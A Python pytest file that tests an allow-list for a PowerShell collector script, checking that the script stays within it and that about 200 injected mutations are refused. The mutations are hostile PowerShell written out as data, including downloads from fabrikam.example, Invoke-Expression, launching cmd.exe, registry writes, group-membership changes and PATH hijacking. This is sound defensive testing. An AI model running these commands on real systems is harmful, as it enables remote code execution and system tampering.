"""The allow-list of the collector's script: the script needs what stands there and nothing else, and whatever would do more is refused."""

from __future__ import annotations

import pytest

from checks.facts.host import SECTIONS
from runner.collect.hosts.script import script
from tests.collect.hosts.allowed import ALLOWED, needs, refused
from tests.powershell import tree

SCRIPT = script(SECTIONS)
NEEDED = {(need.on, need.name) for need in needs(tree(SCRIPT.encode(), "pwsh"))}

SENT = sorted({script([section]) for section in SECTIONS}, key=len)
"""The scripts for one section each."""

PLACE = "    $os = @(Get-CimInstance -ClassName Win32_OperatingSystem)\n"
"""After this line of the script stands what a mutation adds."""

Mutation = str | tuple[str, str]
"""A statement that is added, or a text of the script and what stands in its place."""

HERE_STRING = "@'\nStop-VM *\n'@ | ForEach-Object { $_ }"

MUTATIONS: dict[str, dict[str, Mutation]] = {
    "kinds": {
        "writes a file": "$os > C:\\out.txt",
        "appends to a file": "$os >> C:\\out.txt",
        "writes errors to a file": "Get-VM 2> C:\\out.txt",
        "writes all streams to a file": "Get-VM *> C:\\out.txt",
        "merges errors into the answer": "Get-VM 2>&1",
        "sends a pipeline into a file": ("Sort-Object -Property { $_.TimeCreated } -Descending", "Sort-Object > C:\\out.txt"),
        "goes on after an error": "trap { continue }",
        "declares a data section": "data texts { 'x' }",
        "switches": "switch (1) { 1 { 2 } }",
        "declares a class": ("function Read-os {", "class Reader { }\nfunction Read-os {"),
        "declares an enumeration": ("function Read-os {", "enum Kind { A }\nfunction Read-os {"),
        "loads a module": ("param([Parameter(", "using module C:\\evil.psm1\nparam([Parameter("),
        "adds to a property": "$os.Caption++",
        "has a here-string": HERE_STRING,
        "has a here-string that is expanded": '$line = @"\n$os\n"@',
        "stops parsing": "Get-VM --% /c whoami",
        "has a variable in braces": "$x = ${C:\\secret.txt}",
        "writes through a variable in braces": "${C:\\out.txt} = 'x'",
        "defines a function through a variable": "${function:Get-VM} = { 1 }",
        "has a generic type": "$x = [System.Collections.Generic.List[string]]'x'",
        "loops until": "do { $x = 1 } until ($true)",
        "has a ternary operator": "$x = $true ? 1 : 2",
        "has a subexpression": "$x = $(Get-VM)",
        "has an end block": ("function Read-clock {", "function Read-clock { end {} }\nfunction Get-Now {"),
        "defaults a parameter": ("function Get-Utc($Date) {", "function Get-Utc($Date = (Get-VM)) {"),
    },
    "tokens": {
        "ends the session": "exit 3",
        "splits by a pattern": "$x = 'a b' -split ' '",
        "casts by an operator": "$x = 'x' -as [string]",
        "joins numbers into a text": "$x = 73, 69, 88 -join ''",
        "is a filter": ("function Get-Utc(", "filter Get-Utc("),
        "is a workflow": ("function Get-Utc(", "workflow Get-Utc("),
        "combines bits": "$x = 1 -bor 2",
    },
    "commands": {
        "writes a file by a cmdlet": "Set-Content C:\\out.txt 'x'",
        "writes a file at the end of a pipeline": "$os | Out-File C:\\out.txt",
        "exports to a file": "$os | Export-Csv C:\\out.csv",
        "writes to a file and on": "$os | Tee-Object C:\\out.txt",
        "removes files": "Remove-Item C:\\data",
        "writes the registry by a cmdlet": "Set-ItemProperty HKLM:\\SOFTWARE x 1",
        "calls a method of a class": "Invoke-CimMethod -ClassName Win32_Process -MethodName Create",
        "calls a method by the old cmdlet": "Invoke-WmiMethod Win32_Process Create",
        "changes an instance": "$os | Set-CimInstance",
        "removes an instance": "Get-CimInstance -ClassName Win32_LogonSession | Remove-CimInstance",
        "stops machines": "Get-VM | Stop-VM",
        "moves machines": "Move-VM a b",
        "changes the host": "Set-VMHost -UseAnyNetworkForMigration $true",
        "stops a service": "Stop-Service vmms",
        "starts a process": "Start-Process cmd.exe",
        "starts a program": "cmd.exe /c whoami",
        "starts a program by its path": "C:\\Windows\\System32\\whoami.exe",
        "downloads": "Invoke-WebRequest http://fabrikam.example/x",
        "runs a text": "Invoke-Expression $Request",
        "runs a text by an alias": "iex $Request",
        "runs a generated module": "New-Module { 1 }",
        "compiles a type": "Add-Type 'class X {}'",
        "runs elsewhere": "Invoke-Command -ComputerName TestServer02 { 1 }",
        "enters a session": "Enter-PSSession TestServer02",
        "starts a job": "Start-Job { 1 }",
        "schedules a task": "Register-ScheduledTask x",
        "watches events": "Register-CimIndicationEvent -ClassName x",
        "imports a module": "Import-Module C:\\evil.psm1",
        "makes an alias": "Set-Alias Get-VM Stop-VM",
        "sets a variable": "Set-Variable -Scope Global -Name x -Value 1",
        "has an alias for a command of the list": ("Where-Object { $_.DomainControllerName }", "? { $_.DomainControllerName }"),
        "has an alias for a loop": "$os | % { $_ }",
        "names a command by its module": "Microsoft.PowerShell.Management\\Get-Item C:\\",
        "has other case, as in no documentation": "get-vm",
        "has an escape within a name": "Stop-`VM *",
    },
    "parameters": {
        "abbreviates a parameter": ("Get-VMNetworkAdapter -ManagementOS", "Get-VMNetworkAdapter -Man"),
        "reads from another host": "Get-VM -ComputerName TestServer02",
        "reads classes of another host": "Get-CimInstance -ComputerName TestServer02 -ClassName Win32_Service",
        "asks in a query's words": "Get-CimInstance -Query 'SELECT * FROM Win32_Service'",
        "calls a method by name": "$os | ForEach-Object -MemberName Delete",
        "goes on after a command's error": "Get-VM -ErrorAction SilentlyContinue",
        "puts a command's output into a variable": "Get-VM -OutVariable x",
        "names a parameter with its argument in one": "Get-VM -Name:x",
        "gives a switch a value": "Get-VMNetworkAdapter -ManagementOS $false",
        "leaves out a value": "Get-CimInstance -ClassName",
        "makes a COM object": "New-Object -ComObject WScript.Shell",
        "sets properties of what it makes": "New-Object System.Security.Principal.NTAccount -Property @{ a = 1 }",
        "runs a block first": "$os | ForEach-Object -Begin { 1 }",
        "names a parameter of its own function": "Get-Utc -Date 1",
    },
    "positional": {
        "calls a method by position": "$os | ForEach-Object Delete",
        "calls a method by a quoted name": "$os | ForEach-Object 'Delete'",
        "calls a method by a variable": "$os | ForEach-Object $Request",
        "runs a block that came by a variable": "$os | Where-Object $Request",
        "splats": "Get-CimInstance @line",
        "asks for one machine by position": "Get-VM x",
        "sorts by position": "$os | Sort-Object Caption",
    },
    "classes": {
        "reads another class": ("-ClassName Win32_NTDomain", "-ClassName Win32_Product"),
        "reads another namespace": ("-Namespace root/StandardCimv2", "-Namespace root/cimv2"),
        "reads a class that a variable names": ("-ClassName Win32_NTDomain", "-ClassName $Request"),
        "reads a namespace that a variable names": ("-Namespace root/StandardCimv2", "-Namespace $Request"),
        "reads no class": "Get-CimInstance",
    },
    "types": {
        "makes a folder by .NET": "[System.IO.Directory]::CreateDirectory('C:\\out')",
        "starts a process by .NET": "[Diagnostics.Process]::Start('cmd.exe')",
        "downloads by .NET": "(New-Object Net.WebClient).DownloadString([uri]'http://fabrikam.example/x')",
        "makes a block of a text": "[scriptblock]::Create($Request)",
        "makes a session": "[powershell]::Create()",
        "loads an assembly": "[System.Reflection.Assembly]::Load($Request)",
        "reads the environment": "$x = [Environment]::MachineName",
        "binds to an object of WMI": "$x = [wmi]'Win32_Service.Name=\"vmms\"'",
        "binds to a class of WMI": "$x = [wmiclass]'Win32_Process'",
        "searches WMI": "$x = [wmisearcher]'SELECT * FROM Win32_Process'",
        "searches a directory": "$x = [adsisearcher]'(cn=*)'",
        "takes a text for a type": "$x = [type]'System.IO.File'",
        "passes a variable by reference": "$x = [ref]$os",
        "has the short name of a type of the list": ("[System.Net.Dns]::", "[Net.Dns]::"),
        "activates a type": "[Activator]::CreateInstance('x')",
        "marshals": "[System.Runtime.InteropServices.Marshal]::GetActiveObject('x')",
        "catches another exception": ("catch [System.Security.Principal.IdentityNotMappedException]", "catch [System.IO.IOException]"),
        "runs code to validate a parameter": ("function Get-Utc($Date)", "function Get-Utc([ValidateScript({ 1 })] $Date)"),
    },
    "casts": {
        "binds to another path of ADSI": "$x = [ADSI]'LDAP://CN=x'",
        "binds to a group of another host": ("[ADSI]('WinNT://./' +", "[ADSI]('WinNT://TestServer02/' +"),
        "binds to a path that came": "$x = [ADSI]$Request",
        "binds when a parameter is given": ("function Get-Utc($Date)", "function Get-Utc([ADSI] $Date)"),
        "connects by a cast": "$x = [Microsoft.Win32.Registry]'x'",
    },
    "members": {
        "reaches what runs texts": "$x = $ExecutionContext.InvokeCommand",
        "expands a text": "$ExecutionContext.InvokeCommand.ExpandString($Request)",
        "reads a member that a variable names": "$x = $os.$Request",
        "reads a member that a text names": "$x = $os.'Delete'",
        "reads a member that an expression names": "$x = $os.('Del' + 'ete')",
        "calls a member that a text names": '$os."$Request"()',
        "reads methods of any object": "$x = $os.PSObject.Methods",
        "reads a type's methods": "$x = $os.GetType().GetMethod('x')",
        "reads the base of an object": "$x = $os.psbase",
        "reads another property by name": ("'SupportPersistentReservations'", "'Parent'"),
        "filters by another property": ("-Filter 'ID=20'", "-Filter 'ParentID=20'"),
    },
    "dynamic": {
        "reads a property that a variable names": ("Get-Optional $vm 'Version'", "Get-Optional $vm $Request"),
        "reads a property that an expression names": ("Get-Optional $vm 'Version'", "Get-Optional $vm ('Ver' + 'sion')"),
        "reads no property": ("Get-Optional $vm 'Version'", "Get-Optional $vm"),
    },
    "exact": {
        "finds commands of any kind": (" -CommandType Function", ""),
        "finds cmdlets": ("-CommandType Function", "-CommandType Cmdlet"),
        "finds functions of any name": ("-Name ('Read-' + $name)", "-Name $name"),
        "makes a process": "$x = New-Object System.Diagnostics.Process",
        "makes what a variable names": "$x = New-Object $Request",
        "connects while it makes": ("-ArgumentList $Address.AddressFamily", "-ArgumentList 'fabrikam.example', 80"),
        "connects elsewhere": ("Get-Attempt $place.address $port", "Get-Attempt '192.0.2.1' $port"),
        "is no longer strict": ("Set-StrictMode -Version 2.0", "Set-StrictMode -Version 1.0"),
    },
    "called": {
        "calls a program": "& 'cmd.exe'",
        "calls a text": "& $Request",
        "calls a block": "& { 1 }",
        "calls a member": "& $os.Caption",
        "calls an expression": "& ('Stop-' + 'VM')",
        "calls a name that is quoted": '& "Get-VM"',
        "runs a script": ". C:\\evil.ps1",
        "runs a text in its own scope": ". $Request",
        "calls the reader with something else": ("& $reader $asked", "& $reader $asked $entry"),
        "takes a program for the reader": ("        $value = & $reader", "        $reader = 'cmd.exe'\n        $value = & $reader"),
        "loops the reader over texts": (
            "        $value = & $reader",
            "        foreach ($Reader in 'a', 'b') { }\n        $value = & $reader",
        ),
    },
    "static": {
        "reads another hive": ("Registry]::LocalMachine.", "Registry]::Users."),
        "reads a static member that a variable names": "$x = [Math]::$Request",
        "takes a static method as a value": "$x = [System.Net.Dns]::GetHostAddressesAsync",
        "reads a static member by a value": "$x = $os::Value",
    },
    "invoked": {
        "writes a value of the registry": "[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\\SOFTWARE\\x', 'y', 1)",
        "writes a file by .NET": "[System.IO.File]::WriteAllText('C:\\out.txt', 'x')",
        "sets attributes": ("File]::GetAttributes($path)", "File]::SetAttributes($path, 1)"),
        "reaches for a server by a path": ("File]::GetAttributes($path)", "File]::GetAttributes('\\\\fabrikam.example\\x')"),
        "makes a key": "[Microsoft.Win32.Registry]::LocalMachine.CreateSubKey('SOFTWARE\\x')",
        "opens a key to write it": ("OpenSubKey($place.path)", "OpenSubKey($place.path, $true)"),
        "writes an opened key": ("$key.Close()", "$key.SetValue('x', 1)"),
        "deletes an opened key's value": ("$key.Close()", "$key.DeleteValue('x')"),
        "adds a member to a group": ("$group.Invoke('Members')", "$group.Invoke('Add', 'WinNT://x')"),
        "renames by ADSI": ("$group.Invoke('Members')", "$group.InvokeSet('Name', 'x')"),
        "puts a property by ADSI": ("$group.Invoke('Members')", "$group.Put('Description', 'x')"),
        "saves by ADSI": ("$group.Invoke('Members')", "$group.SetInfo()"),
        "commits by ADSI": ("$group.Invoke('Members')", "$group.CommitChanges()"),
        "calls by ADSI what a variable names": ("$group.Invoke('Members')", "$group.Invoke($sid)"),
        "runs a block's text": "{ 1 }.Invoke()",
        "stops a machine by its object": "(Get-VM).Stop()",
        "calls a method on another variable": "$os.Invoke('Members')",
        "calls a static method that a variable names": "[Math]::$Request(1)",
        "makes an object as later engines do": "[System.Net.IPAddress]::new(1)",
        "filters by a method": "$os.Where({ 1 })",
        "sends to a socket": "$x = $os[0].GetStream()",
        "asks the name server for another name": ("GetHostAddressesAsync([string]$_)", "GetHostAddressesAsync('fabrikam.example')"),
        "connects a client elsewhere": ("ConnectAsync($Address, $Port)", "ConnectAsync('192.0.2.1', 80)"),
        "invokes a method by reflection": "$os[0].GetType().InvokeMember('Delete', 'InvokeMethod', $null, $os[0], $null)",
        "adds a script to a session": "$os.AddScript('x').BeginInvoke()",
    },
    "assigned": {
        "changes a property": "$os[0].Caption = 'x'",
        "changes an element": "$os[0] = 'x'",
        "changes a static property": "[System.Net.Dns]::x = 1",
        "changes a property of the list in another function": "$entry.value = 1",
        "changes properties among variables": "$x, $os.Caption = 1, 2",
        "changes a property after a variable": "$x = $os.Caption = 'x'",
        "adds to a property by an operator": "$os[0].Caption += 'x'",
        "changes the environment": "$env:PATH = 'C:\\evil'",
        "changes the session": "$global:x = 1",
        "changes the script's scope": "$script:x = 1",
        "defines a function as a variable": "$function:Prompt = { 1 }",
        "makes an alias as a variable": "$alias:x = 'Stop-VM'",
        "hides errors": "$ErrorActionPreference = 'SilentlyContinue'",
        "hides errors in other case": "$erroractionpreference = 'Ignore'",
        "hides errors by a loop": "foreach ($ErrorActionPreference in 'Ignore') { }",
        "hides errors by a parameter": ("function Get-Utc($Date)", "function Get-Utc($Date, $ErrorActionPreference)"),
        "hides errors among other variables": "$x, $ErrorActionPreference = 1, 'Ignore'",
        "gives commands parameters": "$PSDefaultParameterValues = @{ a = 1 }",
        "loads modules of its own": "$PSModuleAutoLoadingPreference = 'None'",
        "casts what it assigns to": "[int]$x = 1",
    },
    "variables": {
        "reads the environment as a variable": "$x = $env:PATH",
        "reads a function as a variable": "$x = $function:Prompt",
        "reads the caller's scope": "$x = $global:x",
        "reads a variable of the caller": "$x = $using:x",
        "reads what the script never gives": "$x = $secret",
        "reads the engine": "$x = $ExecutionContext",
        "reads the host program": "$x = $Host",
        "reads the home folder": "$x = $HOME",
    },
    "expanded": {
        "expands a variable": '$x = "a $os"',
        "expands an expression": '$x = "a $(Get-VM)"',
        "expands a filter": ("-Filter 'Store=1'", '-Filter "Store=$Request"'),
    },
    "functions": {
        "defines a command anew": ("function Get-Utc(", "function Get-VM { 1 }\nfunction Get-Utc("),
        "defines a command anew in other case": ("function Get-Utc(", "function get-cimInstance { 1 }\nfunction Get-Utc("),
        "defines a function twice": ("function Get-Utc(", "function Get-UTC { 1 }\nfunction Get-Utc("),
        "defines a function of the session": ("function Get-Utc(", "function global:Get-It { 1 }\nfunction Get-Utc("),
        "defines a program's name": ("function Get-Utc(", "function prompt { 1 }\nfunction Get-Utc("),
        "defines a function where others do not see it": "function Get-It { 1 }",
    },
    "verbs": {
        "defines what does more than read": ("function Get-Utc(", "Stop-VM *\nfunction Stop-VM { 1 }\nfunction Get-Utc("),
    },
    "characters": {
        "has an escape": "$x = 'a`b'",
        "ends a text by a quote that is none in ASCII": "$x = '\N{RIGHT SINGLE QUOTATION MARK}; Stop-VM *; \N{LEFT SINGLE QUOTATION MARK}'",
        "has a dash that is none in ASCII": "$x = 'a' + '\N{EN DASH}'",
        "has a tab": "$x\t= 1",
    },
    "words": {
        "hides a variable in a word": "Get-Utc $os/$Request",
        "names a file": "Get-Utc C:\\out.txt",
        "makes a keyword and a text one word": "return'x'",
    },
    "comments": {
        "requires a module": ("# --- frame ---", "#Requires -Modules Evil"),
    },
    "syntax": {
        "goes to the background": "Get-VM &",
        "does not parse": "if (1 {",
        "lacks what stands before a sign": "< Stop-VM *",
    },
}


def mutated(mutation: Mutation) -> tuple[str, str]:
    """The shortest script that is sent to hosts and can be changed so, and it changed."""
    old, new = (PLACE, f"{PLACE}    {mutation}\n") if isinstance(mutation, str) else mutation
    sent = next(each for each in SENT if old in each)
    return sent, sent.replace(old, new, 1)


@pytest.mark.parametrize("sent", [SCRIPT, *SENT], ids=len)
def test_the_script_needs_nothing_that_is_not_allowed(sent: str) -> None:
    assert refused(sent) == []


@pytest.mark.parametrize("on", ALLOWED)
def test_nothing_is_allowed_that_the_script_does_not_need(on: str) -> None:
    assert {name for name in ALLOWED[on] if (on, name) not in NEEDED} == set()


@pytest.mark.parametrize("on", MUTATIONS)
def test_a_script_that_does_more_is_refused(on: str) -> None:
    for what, mutation in MUTATIONS[on].items():
        sent, more = mutated(mutation)
        assert more != sent, what
        found = {need.on for need in refused(more)}
        assert on in found, what
        assert ("syntax" in found) == (on == "syntax"), f"{what}: it is refused for what it does, not for a slip"


def test_every_list_refuses_something() -> None:
    assert ALLOWED.keys() <= MUTATIONS.keys()
